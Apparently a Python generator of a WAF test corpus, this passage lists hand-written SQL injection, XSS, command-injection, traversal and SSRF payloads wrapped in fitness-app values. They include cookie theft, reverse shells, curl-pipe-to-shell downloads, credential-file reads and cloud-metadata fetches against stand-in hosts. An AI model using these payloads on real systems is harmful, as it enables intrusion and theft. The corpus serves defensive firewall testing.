"""Held-out ATTACK corpus for the WAF: fitness, coaching and wellness app fields.

Each value is a working payload against a vulnerable fitness app that puts the
value where its class says: concatenated into SQL (leaderboard search, workout
log filters, food search), a shell line (GPX/FIT conversion, export zip,
device ping, avatar resize), a file path (export download, GPX import, plan
template), a fetched URL (webhook, route import, avatar URL, calendar feed),
a server-side template (coach e-mail, challenge banner), HTML rendered without
escaping (community post, challenge name, profile), a log line / HTTP header /
mail header, an LDAP filter or an XPath query (member directory, plan XML).
Most payloads are wrapped in the app's own notations ("5x5 @ 100kg",
"10x(400m @ 5k pace / 200m jog)", GPX/TCX XML, macros...), ~10% are "plain-"
classes without domain wrapping and ~10% carry an encoding (URL-encoded once or
twice, HTML entities, unicode/hex escapes, case mixing, comments as spaces,
overlong UTF-8, alternative IP notations...).

class = "<context>-<technique>[+<encoding>]"

All literals were hand-written for this corpus from an understanding of each
technique; the template functions only combine small hand-written pools.
Attacker infrastructure uses attacker.example, 203.0.113.0/24 and
198.51.100.0/24 only; secrets are fake placeholders. Standard library only,
deterministic: random.Random(SEED), no set iteration, output next to this file.

Usage: python3 make_attacks.py   ->  attacks.jsonl
"""
import json
import random
from pathlib import Path

SEED = 6402
PREFIX = "ha64"
MAX_LEN = 1800

# target number of values per category (literals first, templates fill the rest)
TARGETS = {
    "sqli": 76, "xss": 76, "cmdi": 74, "traversal": 52, "ssrf": 52,
    "code": 78, "nosqli": 26, "crlf": 30, "ldap-xpath": 22,
}

# ---------------------------------------------------------------------------
# sqli: values concatenated into SQL by the leaderboard, log filter, food
# search, booking lookup, device registry, challenge admin...
# ---------------------------------------------------------------------------
SQLI = [
    ("leaderboard-union", "Back Squat' UNION SELECT email, password_hash, NULL FROM users-- -"),
    ("log-stacked", "5x5 @ 100kg'); DROP TABLE workout_logs;--"),
    ("log-timeblind", "deadlift' AND (SELECT 1 FROM (SELECT SLEEP(7))t)-- -"),
    ("set-tautology", "RPE 8' OR '1'='1"),
    ("leaderboard-orderby", "score DESC, (SELECT CASE WHEN (SELECT substr(api_key,1,1) FROM coaches LIMIT 1)='f' THEN 1 ELSE 1/(SELECT 0) END)"),
    ("log-errorbased", "2024-03-01' AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))-- -"),
    ("food-union", "oats' UNION ALL SELECT username||':'||password, 1, 1 FROM members--"),
    ("challenge-boolean", "March Madness' AND SUBSTR((SELECT password FROM users WHERE username='admin'),1,1)='a'--"),
    ("search-timeblind", "yoga'; SELECT pg_sleep(8)--"),
    ("booking-timeblind", "Spin 07:00'; WAITFOR DELAY '0:0:7'--"),
    ("sync-errorbased", "HRV 48' AND 1=CONVERT(int,(SELECT TOP 1 token FROM device_tokens))--"),
    ("profile-errorbased", "marta.runs' AND updatexml(null,concat(0x3a,(SELECT group_concat(email) FROM users)),null)-- -"),
    ("leaderboard-union", "-1 UNION SELECT table_name, column_name, 3 FROM information_schema.columns WHERE table_schema=database()"),
    ("export-union", "run_0312' UNION SELECT sql, name, type FROM sqlite_master--"),
    ("coach-oob", "great week'; EXEC master..xp_dirtree '\\\\x7k.attacker.example\\s';--"),
    ("physio-oob", "knee' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.p.attacker.example\\\\x')),2,3-- -"),
    ("leaderboard-timeblind", "5k' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('w',8)--"),
    ("search-oob", "tempo' || UTL_HTTP.REQUEST('http://203.0.113.14/'||(SELECT user FROM dual)) || '"),
    ("log-timeblind", "1 AND BENCHMARK(40000000,SHA1('squat'))"),
    ("food-insert", "banana', 0, (SELECT password FROM users WHERE id=1))-- -"),
    ("plan-stacked", "Week 1'; UPDATE users SET role='admin' WHERE email='me@attacker.example';--"),
    ("challenge-stacked", "Plank-a-thon'; INSERT INTO admins(user_id) VALUES (4412);--"),
    ("leaderboard-errorbased", "1' GROUP BY user_id HAVING 1=1--"),
    ("sort-boolean", "(SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')"),
    ("search-boolean", "%' AND 1=(SELECT COUNT(*) FROM users WHERE password_hash LIKE '$2b$%') AND '%'='"),
    ("filter-tautology", "run' OR json_extract(settings,'$.is_admin')=1--"),
    ("log-union+comment", "squat'/**/UNION/**/SELECT/**/email,password/**/FROM/**/users#"),
    ("leaderboard-union+versioncomment", "1 /*!50000UNION*/ /*!50000SELECT*/ user(),@@hostname,3"),
    ("search-union+urlenc", "tempo%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20users--%20-"),
    ("search-tautology+doubleurl", "yoga%2527%2520OR%25201%253D1--%2520-"),
    ("challenge-union+case", "x' UnIoN sElEcT nUlL,PaSsWoRd,nUlL fRoM uSeRs-- -"),
    ("food-union+hex", "' UNION SELECT 1,0x61646d696e,password FROM users WHERE username=0x61646d696e-- -"),
    ("log-tautology+char", "' OR username=CHAR(97,100,109,105,110)-- -"),
    ("profile-union", "0.1e1UNION SELECT email,password,3 FROM users"),
    ("leaderboard-errorbased", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("log-stacked", "x'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.20/x|sh';--"),
    ("booking-stacked", "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami'--"),
    ("physio-errorbased", "' AND 1=CAST((SELECT string_agg(email||':'||password,',') FROM users) AS int)--"),
    ("device-boolean", "9A3F21C7' AND ASCII(SUBSTRING((SELECT secret FROM api_keys LIMIT 1),1,1))>77-- -"),
    ("sync-timeblind", "1 AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)"),
    ("profile-secondorder", "admin'-- "),
    ("challenge-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/c.php'-- -"),
    ("sort-errorbased", "(SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
    ("leaderboard-timeblind", "' AND (SELECT CASE WHEN substr((SELECT password FROM users LIMIT 1),1,1)='a' THEN randomblob(300000000) ELSE 1 END)--"),
    ("food-tautology", "12) OR 1=1-- -"),
    ("plan-tautology", "x' OR $$a$$=$$a$$--"),
    ("log-stacked", "'; DECLARE @q varchar(200); SET @q='SELECT name, password_hash FROM users'; EXEC(@q)--"),
    ("interval-union", "10x(400m @ 5k pace / 200m jog)' UNION SELECT NULL,current_user,NULL--"),
    ("log-tautology", "5x5 @ 100kg\" OR \"\"=\""),
    ("coach-escapebypass", "Great week!\\' OR 1=1-- -"),
    ("booking-multibyte+urlenc", "%bf%27 OR 1=1-- -"),
    ("challenge-stacked", "'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd'; SELECT * FROM t;--"),
    ("leaderboard-oob", "1; SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=203.0.113.30,1433;uid=sa;pwd=x','SELECT 1')--"),
    ("search-union", "run' IN BOOLEAN MODE) UNION SELECT email,password FROM users-- -"),
    ("leaderboard-limit", "(SELECT CASE WHEN (SELECT COUNT(*) FROM pg_user WHERE usesuper)>0 THEN 10 ELSE 1 END)"),
    ("post-update", "nice run', bio=(SELECT password FROM users WHERE id=1) WHERE id=77-- -"),
    ("food-union+whitespace", "oats'\tUNION\tSELECT\temail,password\tFROM\tusers--\t-"),
    ("search-union+newline", "squat'\nUNION\nSELECT\nemail,\npassword\nFROM\nusers\n-- "),
    ("leaderboard-boolean+nospace", "1'||(SELECT(1)FROM(users)WHERE(username='admin')AND(password>'m'))||'"),
    ("log-errorbased", "' AND EXP(~(SELECT * FROM (SELECT user())a))-- -"),
    ("meal-union", "Breakfast: oats 60g' UNION SELECT card_number, card_expiry, NULL FROM payment_methods-- -"),
    ("physio-boolean", "M76.6' AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_name='patients')=1-- -"),
    ("class-timeblind+urlenc", "Yoga%20Flow%27%20AND%20SLEEP(6)--%20-"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-tautology", "admin' OR 1=1 LIMIT 1-- -"),
    ("plain-timeblind", "1' AND SLEEP(10)-- -"),
    ("plain-stacked", "1; DROP TABLE members--"),
    ("plain-errorbased", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-boolean", "1 AND 1=1 AND 'a'='a"),
    ("plain-union", "-1' UNION SELECT NULL,NULL,@@version-- -"),
    ("plain-timeblind", "'; WAITFOR DELAY '0:0:5'--"),
]

SQLI_FIELDS = [
    ("leaderboard", ["Back Squat", "Sub-20 5k Club", "Women 63 kg", "Masters 1 (40-49)", "Rowing 2k"]),
    ("log", ["5x5 @ 100kg", "Tempo 5 km @ 4'35\"/km", "Deadlift 1x5 @ 180", "EMOM 12'"]),
    ("food", ["oats 60g", "Greek yogurt 0%", "salmon 180g", "Müsli Crunchy"]),
    ("challenge", ["March Madness", "Plank-a-thon", "Tabata Tuesday", "Kilo Club"]),
    ("booking", ["Spin 07:00", "Reformer Sat 09:00", "Lane 4 06:00"]),
]
SQLI_TAILS = [
    ("union", "' UNION SELECT email, password_hash FROM users-- -"),
    ("union", "' UNION ALL SELECT NULL, CONCAT(username,0x3a,password) FROM members#"),
    ("boolean", "' AND (SELECT COUNT(*) FROM users WHERE role='admin')>0-- -"),
    ("timeblind", "' AND SLEEP(6)-- -"),
    ("timeblind", "' || (SELECT pg_sleep(6)) || '"),
    ("errorbased", "' AND extractvalue(1,concat(0x5c,(SELECT password FROM users LIMIT 1)))-- -"),
    ("stacked", "'; DELETE FROM leaderboard WHERE user_id<>4412;--"),
    ("tautology", "' OR 'x'='x"),
]


def tpl_sqli(rng):
    ctx, prefixes = rng.choice(SQLI_FIELDS)
    tech, tail = rng.choice(SQLI_TAILS)
    return f"{ctx}-{tech}", rng.choice(prefixes) + tail


# ---------------------------------------------------------------------------
# xss: values rendered without escaping in posts, challenge banners, coach
# comments, profile fields, device names, exported file names...
# ---------------------------------------------------------------------------
XSS = [
    ("post-script", "First sub-2 half! 🥳 <script>fetch('https://attacker.example/c?'+document.cookie)</script> #PR"),
    ("challenge-imgonerror", "March Madness <img src=x onerror=alert(document.domain)>"),
    ("coach-svgonload", "Great week! <svg onload=\"location='//attacker.example/?t='+localStorage.token\">"),
    ("profile-attrbreak", "marta.runs\" onmouseover=\"alert(1)\" x=\""),
    ("post-ontoggle", "<details open ontoggle=alert(document.cookie)>Race report</details>"),
    ("plan-iframesrcdoc", "Week 1 <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("profile-jsurl", "javascript:alert(document.cookie)"),
    ("post-jsurl+entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">my route</a>"),
    ("log-jsstring", "5x5 @ 100kg';alert(String.fromCharCode(88,83,83));//"),
    ("log-scriptbreak", "Tempo run</script><script>alert(1)</script>"),
    ("booking-autofocus", "Spot #14 <input autofocus onfocus=alert(1)>"),
    ("challenge-bodyonload", "<body onload=alert('XSS')>Sunrise Squad"),
    ("post-videoonerror", "form check 🎥 <video><source onerror=\"alert(1)\"></video>"),
    ("coach-marquee", "<marquee onstart=alert(1)>Nice PR!!</marquee>"),
    ("post-objectdata+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("physio-svganimate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("challenge-formaction", "<form><button formaction=\"javascript:alert(1)\">Join challenge</button></form>"),
    ("post-basehref", "Race report ⬇️ <base href=\"https://attacker.example/\">"),
    ("profile-metarefresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("post-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>"),
    ("log-jstemplate", "${alert(document.domain)}"),
    ("post-csti", "Who's in? {{constructor.constructor('alert(1)')()}}"),
    ("coach-csti", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("challenge-svgscript+entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("post-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("log-jsstring+unicode", "\";\\u0061lert(1);//"),
    ("search-reflected+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-reflected+doubleurl", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("profile-imgslash", "<img/src/onerror=alert(1)>"),
    ("post-markdown", "[my Strava](javascript:alert(document.cookie))"),
    ("post-markdownattr", "![route map](https://cdn.fitapp.example/m.png\"onerror=\"alert(1))"),
    ("coach-iframejsurl", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("avatar-svgupload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><circle r=\"40\"/></svg>"),
    ("post-pointerenter", "<p onpointerenter=alert(1)>hover for my PR 🏅</p>"),
    ("challenge-textareabreak", "Plank-a-thon</textarea><img src=x onerror=alert(1)>"),
    ("challenge-titlebreak", "Sub-20 5k Club</title><script>alert(1)</script>"),
    ("log-attrbreak", "5x5' onfocus='alert(1)' autofocus='"),
    ("theme-cssexfil", "input[name=csrf][value^=a]{background:url(https://attacker.example/leak?c=a)}"),
    ("booking-animation", "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=\"alert(1)\">late 5 min</b>"),
    ("post-fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("post-atob+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("post-jsurl+whitespace", "<a href=\"java\tscript:alert(1)\">results</a>"),
    ("profile-jsurl+case", "JaVaScRiPt:alert(1)"),
    ("post-jsurl+namedentity", "<a href=\"javascript&colon;alert(1)\">see my splits</a>"),
    ("coach-backticks", "<img src=x onerror=alert`1`>"),
    ("post-iframedata", "<iframe src=\"data:text/html,<script>alert(document.domain)</script>\"></iframe>"),
    ("sync-devicename", "Polar H10 <img src=x onerror=fetch('//203.0.113.40/'+document.cookie)>"),
    ("export-filename", "run\"><svg onload=alert(1)>.gpx"),
    ("post-hashtag", "#PR<img src=x onerror=alert(1)>"),
    ("post-dangling", "<img src='https://attacker.example/log?html="),
    ("search-callback", "alert(document.domain)//"),
    ("post-svglink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">my route</text></a></svg>"),
    ("log-reflected+htmlentities", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
    ("post-handler+entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("post-ontoggle", "🏃 <details/open/ontoggle=\"self['al'+'ert'](1)\">"),
    ("coach-module", "<script type=module>import('//attacker.example/x.js')</script>"),
    ("profile-iframeonload", "<iframe onload=alert(1)>"),
    ("post-jsonbreak", "\"}</script><svg onload=alert(1)>"),
    ("meal-imgonerror", "Smoothie 🍓 <img src=1 onerror=\"document.body.innerHTML='<h1>Hacked</h1>'\">"),
    ("interval-svgonload", "10x(400m @ 5k pace / 200m jog)<svg/onload=alert(1)>"),
    ("wearable-xssnote", "HRV 48 ms <script src=//attacker.example/hrv.js></script>"),
    ("plan-scriptsrc+urlenc", "Week%201%3Cscript%20src%3D%2F%2Fattacker.example%2Fw.js%3E%3C%2Fscript%3E"),
    ("challenge-audioonerror", "Kilo Club <audio src=x onerror=alert(1)>"),
    ("post-onfocusin", "<a id=z tabindex=1 autofocus onfocusin=alert(1)>🏆</a>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img", "<img src=x onerror=alert(1)>"),
    ("plain-svg", "<svg/onload=alert(1)>"),
    ("plain-jsurl", "javascript:alert(document.domain)"),
    ("plain-attrbreak", "\"><script>alert(1)</script>"),
    ("plain-bodyonload", "<body onpageshow=alert(1)>"),
    ("plain-jsstring", "';alert(1);//"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
]

XSS_PREFIXES = [
    ("post", ["First sub-2 half! 🥳", "Parkrun #250 today 🎉", "Race day checklist ✅", "Rest day = sleep 😴"]),
    ("challenge", ["March Madness 🏃", "Tabata Tuesday 🔥", "Sunrise Squad ☀️", "Zone 2 Zealots"]),
    ("coach", ["Great week!", "Nice PR!! 🎉", "Form check:", "Gute Arbeit!"]),
    ("log", ["5x5 @ 100kg; RPE 8", "Ran 8.2 km", "Row 5x500m"]),
]
XSS_PAYLOADS = [
    ("imgonerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svgonload", "<svg onload=alert(document.domain)>"),
    ("script", "<script>new Image().src='//attacker.example/s?c='+document.cookie</script>"),
    ("ontoggle", "<details open ontoggle=alert(1)>"),
    ("autofocus", "<input autofocus onfocus=alert(1)>"),
    ("iframejsurl", "<iframe src=javascript:alert(1)>"),
]


def tpl_xss(rng):
    ctx, prefixes = rng.choice(XSS_PREFIXES)
    tech, payload = rng.choice(XSS_PAYLOADS)
    return f"{ctx}-{tech}", f"{rng.choice(prefixes)} {payload}"


# ---------------------------------------------------------------------------
# cmdi: values put on a shell line by the GPX/FIT converter, export zipper,
# device ping, avatar resizer, video thumbnailer, backup job, timezone tool...
# ---------------------------------------------------------------------------
CMDI = [
    ("export-semicolon", "run_0312.gpx; cat /etc/passwd"),
    ("export-pipe", "ride_0412.tcx | id"),
    ("convert-and", "long_run.gpx && curl -s http://203.0.113.50/s.sh | sh"),
    ("convert-or", "x.fit || wget -qO- http://attacker.example/b | bash"),
    ("export-subshell", "week_$(whoami).csv"),
    ("export-backtick", "sleep_`id`.csv"),
    ("avatar-newline", "me.png\ncurl http://203.0.113.51/p -o /tmp/p; chmod +x /tmp/p; /tmp/p"),
    ("device-revshell", "192.168.1.23; nc -e /bin/sh 203.0.113.52 4444"),
    ("device-ifs", "10.0.0.7;cat${IFS}/etc/shadow"),
    ("export-brace", "a.gpx;{cat,/etc/passwd}"),
    ("convert-wildcard", "x.fit;/???/??t /???/p??s??"),
    ("export-quotesplit", "x.gpx;w'h'o'a'm'i"),
    ("export-backslash", "x.gpx;c\\at /e\\tc/pa\\sswd"),
    ("device-envsubstr", "127.0.0.1;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"),
    ("video-revshell", "form_check.mp4; bash -c 'bash -i >& /dev/tcp/203.0.113.53/9001 0>&1'"),
    ("backup-argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("sync-argument", "-oProxyCommand=curl http://attacker.example/k|sh"),
    ("import-argument", "-o /var/www/html/s.php http://attacker.example/shell.txt"),
    ("export-ampersand", "plan.pdf & whoami"),
    ("export-pipe", "plan.pdf | type C:\\Windows\\win.ini"),
    ("device-powershell", "127.0.0.1 & powershell -NoP -W Hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.54/a.ps1')\""),
    ("convert-timing", "run.gpx; sleep 9 #"),
    ("convert-timing", "run.gpx | ping -c 10 127.0.0.1"),
    ("export-dnsexfil", "x.csv;nslookup $(whoami).x.attacker.example"),
    ("export-semicolon+hexescape", "x.gpx;$'\\x63\\x61\\x74' /etc/passwd"),
    ("export-semicolon+base64", "x.gpx;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("avatar-delegate", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://cdn.fitapp.example/a.jpg\"|id > /tmp/o\")'\npop graphic-context"),
    ("tz-semicolon", "Europe/Berlin; id"),
    ("device-revshell", "127.0.0.1;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.55\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("export-pipe", "x.gpx|perl -e 'print `id`'"),
    ("export-webshell", "x.gpx; echo '<?php system($_GET[0]);' > /var/www/html/u.php"),
    ("convert-dollarat", "x.gpx;wh$@oami"),
    ("convert-emptyvar", "x.gpx;c${u}at /etc/passwd"),
    ("export-rev", "x.gpx;$(rev<<<'dwssap/cte/ tac')"),
    ("export-newline+urlenc", "run.gpx%0Aid"),
    ("export-pipe+urlenc", "run.gpx%3B%20curl%20http%3A%2F%2F203.0.113.56%2Fx%7Csh"),
    ("export-subshell+doubleurl", "run.gpx%2524%2528id%2529"),
    ("device-timing", "8.8.8.8 && sleep 8"),
    ("report-quotebreak", "report.pdf\" && certutil -urlcache -f http://203.0.113.57/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe && \""),
    ("export-quotebreak", "run.gpx'; id; echo '"),
    ("export-quotebreak", "run.gpx\"; id; echo \""),
    ("export-argument", "x.zip -T -TT 'sh -c id #'"),
    ("import-argument", "--upload-pack=touch /tmp/pwned"),
    ("export-comspec", "x.csv & %COMSPEC% /c whoami"),
    ("export-ampersand+caret", "x.csv & w^h^o^a^m^i"),
    ("export-semicolon+utf16b64", "x.csv; powershell -enc dwBoAG8AYQBtAGkA"),
    ("device-newline", "10.0.0.8\nid"),
    ("export-tee", "x.gpx;id|tee /tmp/o"),
    ("device-subshell", "watch-$(curl -s 203.0.113.58/x|sh).local"),
    ("export-semicolon+whitespace", "x.gpx;cat\t/etc/passwd"),
    ("export-redirect", "x.gpx;cat</etc/passwd"),
    ("convert-printf+octal", "x.gpx;$(printf '\\151\\144')"),
    ("device-awk", "127.0.0.1;awk 'BEGIN{system(\"id\")}'"),
    ("backup-argument", "-e sh -c 'id>&2'"),
    ("interval-semicolon", "10x(400m @ 5k pace / 200m jog); curl http://198.51.100.7/i|sh"),
    ("workout-backtick", "5x5 @ 100kg `wget -q http://198.51.100.8/m -O /tmp/m && sh /tmp/m`"),
    ("video-subshell", "squat_45deg.mov$(touch /tmp/ffmpeg_pwned)"),
    ("gpx-ampersand", "Lauf_Koenigssee.gpx&&id>/tmp/q"),
    ("export-find", "x.gpx;find / -name '*.pem' -exec curl -F f=@{} http://203.0.113.59/up \\;"),
    ("plain-semicolon", "; id"),
    ("plain-subshell", "$(id)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-and", "&& ls -la /"),
    ("plain-newline", "\nwhoami"),
    ("plain-or", "|| sleep 10"),
    ("plain-revshell", "; bash -i >& /dev/tcp/203.0.113.99/443 0>&1"),
]

CMDI_FILES = [
    ("export", ["run_0312.gpx", "ride_0412.tcx", "Sleep_Jan.csv", "plan-2025-01.json"]),
    ("convert", ["long_run.gpx", "E3B41523.FIT", "Morning_Run.gpx"]),
    ("avatar", ["me.png", "profile_2024.jpg"]),
    ("device", ["192.168.1.23", "10.0.0.7", "watch-marta.local"]),
]
CMDI_SEPS = [("semicolon", ";"), ("pipe", "|"), ("and", "&&"), ("or", "||"), ("newline", "\n")]
CMDI_CMDS = [
    "id", "cat /etc/passwd", "curl -s http://203.0.113.60/x | sh", "uname -a",
    "wget -qO- http://attacker.example/p | sh", "sleep 7", "nc 203.0.113.61 4444 -e /bin/bash",
]


def tpl_cmdi(rng):
    ctx, files = rng.choice(CMDI_FILES)
    tech, sep = rng.choice(CMDI_SEPS)
    gap = "" if tech == "newline" else rng.choice(["", " "])
    return f"{ctx}-{tech}", f"{rng.choice(files)}{gap}{sep}{gap}{rng.choice(CMDI_CMDS)}"


# ---------------------------------------------------------------------------
# traversal: values used as file paths by the export download, GPX import,
# avatar loader, plan template loader, locale loader, attachment viewer...
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("export-dotdot", "../../../../etc/passwd"),
    ("gpx-dotdot+nullbyte", "../../../../../etc/passwd%00.gpx"),
    ("import-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("export-absolute", "/etc/shadow"),
    ("export-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("export-dotdot+doubleurl", "..%252f..%252f..%252fetc%252fpasswd"),
    ("export-dotdot+fullurlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2f.env"),
    ("export-dotdot+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("export-dotdot+overlongslash", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("export-stripbypass", "....//....//....//etc/passwd"),
    ("export-stripbypass", "..././..././..././etc/passwd"),
    ("plan-semicolon", "/plans/..;/..;/manager/html"),
    ("export-procenviron", "../../../../proc/self/environ"),
    ("export-proccwd", "/proc/self/cwd/config/settings.py"),
    ("avatar-sshkey", "../../../../home/app/.ssh/id_rsa"),
    ("locale-logfile", "../../../../../../var/log/nginx/access.log"),
    ("gpx-zipslip", "activities/../../../../var/www/html/shell.php"),
    ("import-zipslip", "..\\..\\..\\inetpub\\wwwroot\\s.aspx"),
    ("export-k8stoken", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("export-cloudcreds", "../../../../root/.aws/credentials"),
    ("export-backslash", "..\\..\\web.config"),
    ("template-phpfilter", "php://filter/convert.base64-encode/resource=../../config/database.php"),
    ("import-unc", "\\\\203.0.113.60\\share\\plan.pdf"),
    ("export-mixedslash", "../..\\../..\\etc/passwd"),
    ("export-dotdot+unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("export-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("export-dotdot+partialurlenc", ".%2e/.%2e/.%2e/etc/passwd"),
    ("export-prefixbypass", "/var/www/fitapp/exports/../../../../etc/passwd"),
    ("export-prefixconfusion", "/srv/exports-private/signing-keys.json"),
    ("avatar-gitconfig", "../../.git/config"),
    ("avatar-dotenv", "../.env"),
    ("log-history", "../../../../root/.bash_history"),
    ("export-deepdotdot", "../../../../../../../../../../../../etc/hosts"),
    ("static-aliasoff", "/static../app/settings.py"),
    ("export-dotdot+fullwidth", "．．／．．／．．／etc／passwd"),
    ("physio-attachment", "referral/../../../../etc/passwd"),
    ("export-proccmdline", "/proc/self/cmdline"),
    ("export-windowsabsolute", "C:\\Windows\\System32\\config\\SAM"),
    ("export-backslash", "..\\..\\..\\..\\..\\Users\\Administrator\\NTUser.dat"),
    ("gpx-windowsabsolute", "C:/inetpub/wwwroot/web.config"),
    ("export-dotslash", "../../.././etc/./passwd"),
    ("export-dotdot+urlencdots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("plan-template", "plans/templates/../../../../../etc/group"),
    ("fit-dotdot", "2024-03-02-07-15-33.fit/../../../../../../proc/version"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-backslash", "..\\..\\..\\boot.ini"),
    ("plain-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-dotdot", "../../../../windows/win.ini"),
]

TRAV_CTX = [("export", "exports/"), ("gpx", "uploads/gpx/"), ("avatar", "avatars/"),
            ("plan", "plans/"), ("locale", "i18n/")]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa",
                "var/www/fitapp/.env", "etc/nginx/nginx.conf"]
TRAV_WIN_TARGETS = ["Windows\\win.ini", "inetpub\\wwwroot\\web.config",
                    "ProgramData\\FitApp\\appsettings.json", "Windows\\System32\\drivers\\etc\\hosts"]


def tpl_traversal(rng):
    ctx, base = rng.choice(TRAV_CTX)
    depth = rng.choice([4, 5, 6, 7, 8])
    kind = rng.randrange(3)
    if kind == 0:
        return f"{ctx}-dotdot", base + "../" * depth + rng.choice(TRAV_TARGETS)
    if kind == 1:
        return f"{ctx}-backslash", base.replace("/", "\\") + "..\\" * depth + rng.choice(TRAV_WIN_TARGETS)
    return f"{ctx}-stripbypass", base + "....//" * depth + rng.choice(TRAV_TARGETS)


# ---------------------------------------------------------------------------
# ssrf: values the server fetches: wearable webhook URL, route import URL,
# avatar-from-URL, calendar (ICS) feed, PDF report renderer...
# ---------------------------------------------------------------------------
SSRF = [
    ("webhook-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("avatar-metadata", "http://169.254.169.254/latest/user-data"),
    ("calendar-metadata", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("webhook-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("import-metadata", "http://169.254.170.2/v2/metadata"),
    ("avatar-metadata+decimalip", "http://2852039166/latest/meta-data/"),
    ("avatar-metadata+hexip", "http://0xa9fea9fe/latest/meta-data/"),
    ("avatar-metadata+octalip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-metadata+ipv6mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-loopback+shortip", "http://127.1:8080/admin/"),
    ("import-loopback", "http://0:9200/_cat/indices?v"),
    ("import-loopback+ipv6", "http://[::1]:8500/v1/agent/self"),
    ("webhook-gopher", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20203.0.113.61%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("import-dict", "dict://127.0.0.1:11211/stats"),
    ("avatar-filescheme", "file:///etc/passwd"),
    ("calendar-filescheme", "file:///C:/Windows/win.ini"),
    ("webhook-userinfo", "https://hooks.fitapp.example@169.254.169.254/latest/meta-data/"),
    ("avatar-fragment", "http://127.0.0.1:8000#@cdn.fitapp.example/avatar.png"),
    ("import-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("import-dnsrebind", "http://rebind.attacker.example:8080/admin/users"),
